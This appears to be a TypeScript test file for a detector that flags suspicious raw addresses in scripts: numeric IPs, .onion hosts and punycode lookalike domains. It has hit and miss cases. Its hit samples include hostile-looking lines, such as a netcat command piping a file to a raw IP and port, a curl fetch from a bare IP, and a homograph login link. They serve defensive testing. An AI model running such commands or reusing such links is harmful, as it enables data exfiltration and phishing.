import { ruleCases } from '../testing/cases.ts';
import { rawAddress } from './suspect-addresses.ts';

ruleCases(rawAddress, {
  hits: [
    { name: 'a numeric address', path: 'a.sh', text: 'curl http://45.9.148.3:8080/a\n' },
    { name: 'one in prose', text: 'Fetch http://45.9.148.3/a.txt first.\n' },
    { name: 'a hidden service', path: 'a.py', text: 'U = "http://abcdefghijklmnop.onion/x"\n' },
    { name: 'a disguised name', text: 'See https://xn--pple-43d.com/login for more.\n' },
    { name: 'one that is passed to netcat', path: 'a.sh', text: 'nc 45.9.148.3 4444 < a\n' },
  ],
  misses: [
    { name: 'this machine', path: 'a.sh', text: 'curl http://127.0.0.1:3000/health\n' },
    {
      name: 'an address for examples',
      text: 'For instance http://192.0.2.10/ or http://10.0.0.5/.\n',
    },
    { name: 'a version', path: 'a.sh', text: 'pip install a==1.22.33.44\n' },
    {
      // anthropics/skills, skills/webapp-testing (Apache-2.0)
      name: 'an address of a real skill',
      text: "```python\npage.goto('http://localhost:5173')\n```\n",
    },
  ],
});
